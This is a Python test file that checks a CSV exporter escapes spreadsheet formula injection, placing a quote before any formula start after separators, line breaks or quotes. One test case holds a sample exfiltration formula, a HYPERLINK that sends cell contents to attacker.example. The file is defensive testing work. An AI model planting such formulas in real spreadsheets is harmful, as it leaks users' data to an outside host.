"""CSV a spreadsheet opens as data (presenters/spreadsheet.py): no formula can start
anywhere, whatever separator the spreadsheet splits on (issue 12, finding 3)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retrain.presenters.spreadsheet import cell, csv_lines, csv_text
from tests.spreadsheets import formula_cells, formula_starts


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r'=1"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        (5.0, 5.0),
        (-3, "'-3"),
        (float("nan"), "nan"),
        (float("-inf"), "'-inf"),
        (True, "true"),
        # after a separator, a line break, and spaces or quotes that follow them
        (
            'felt ok;=HYPERLINK("http://attacker.example/?x="&A1,"open")',
            'felt ok;\'=HYPERLINK("http://attacker.example/?x="&A1,"open")',
        ),
        ("felt ok\n=1+1", "felt ok\n'=1+1"),
        ("felt ok\r\n@SUM(1)", "felt ok\r\n'@SUM(1)"),
        ("a, -1", "a, '-1"),
        ('a; "+1"', 'a; "\'+1"'),
        ("a|=1", "a|'=1"),
        ("a\t=1", "a\t'=1"),
        ("a;;=1;=2", "a;;'=1;'=2"),
        # text that only looks busy stays as it was
        ("2026-01-05T09:00:00+00:00", "2026-01-05T09:00:00+00:00"),
        ("Left eye - better; right: same", "Left eye - better; right: same"),
        ("e-mail me @ noon", "e-mail me @ noon"),
    ],
)
def test_a_quote_goes_before_every_formula_that_could_start(value, expected):
    assert cell(value) == expected


@given(st.lists(st.text(alphabet=st.sampled_from('ab =+-@;,|\t\r\n" '), min_size=1, max_size=12)))
def test_no_formula_can_start_anywhere_in_a_file_of_any_text(values):
    text = csv_text([values], [f"c{n}" for n in range(len(values))])
    assert formula_starts(text) == []
    assert formula_cells(text) == []


def test_lines_stream_one_at_a_time_with_the_header_first():
    lines = csv_lines(iter([["=x", 1], [None, "y"]]), ("a", "b"))
    assert next(lines) == "a,b\r\n"
    assert list(lines) == ["'=x,1\r\n", ",y\r\n"]
    rows = list(csv.reader(io.StringIO(csv_text([["a\nb", 2.5]], ("x", "y")))))
    assert rows == [["x", "y"], ["a\nb", "2.5"]]
